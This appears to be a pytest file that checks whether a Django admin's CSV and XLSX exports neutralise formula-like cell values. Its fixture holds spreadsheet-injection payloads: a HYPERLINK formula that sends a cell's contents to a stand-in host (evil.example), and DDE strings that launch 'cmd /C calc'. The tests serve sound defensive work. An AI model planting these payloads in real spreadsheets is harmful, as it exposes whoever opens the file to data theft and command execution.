"""Admin spreadsheet exports: text that looks like a formula is written so it cannot run."""

import csv
import io

import openpyxl
import pytest

from tests.factories import MerchantFactory, PenaltyFactory

pytestmark = pytest.mark.django_db

MERCHANTS = "/admin/archive/merchants/"
PENALTIES = "/admin/archive/penalties/"
HOSTILE = {
    "name_en": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "stall": "-2+3+cmd|' /C calc'!A0",
    "name_zh": "+茶行",
}


@pytest.fixture
def hostile_merchant():
    return MerchantFactory(**HOSTILE)


def exported_csv(client, listing):
    response = client.get(listing, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def exported_xlsx(client, listing):
    response = client.get(listing, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


@pytest.mark.parametrize("export", [exported_csv, exported_xlsx])
def test_formula_cells_get_a_leading_quote(client, owner, hostile_merchant, export):
    client.force_login(owner)
    rows = export(client, MERCHANTS)
    cells = rows[1]
    for value in HOSTILE.values():
        assert "'" + value in cells
        assert value not in cells


def test_tab_and_carriage_return_starts_are_defused(client, owner):
    MerchantFactory(name_en="\tTab Shop", address="\rCR Road")
    client.force_login(owner)
    cells = exported_csv(client, MERCHANTS)[1]
    assert "'\tTab Shop" in cells and "'\rCR Road" in cells


def test_ordinary_text_numbers_and_dates_are_unchanged(client, owner):
    PenaltyFactory(fine_amount=2000, outcome="罚款人民币 2000 元")
    client.force_login(owner)
    cells = exported_xlsx(client, PENALTIES)[1]
    assert "罚款人民币 2000 元" in cells
    assert not any(isinstance(cell, str) and cell.startswith("'") for cell in cells)


def test_an_outsider_cannot_export(client, outsider, hostile_merchant):
    client.force_login(outsider)
    response = client.get(MERCHANTS, {"export": "csv"})
    assert response.status_code == 302
    assert "HYPERLINK" not in response.content.decode()
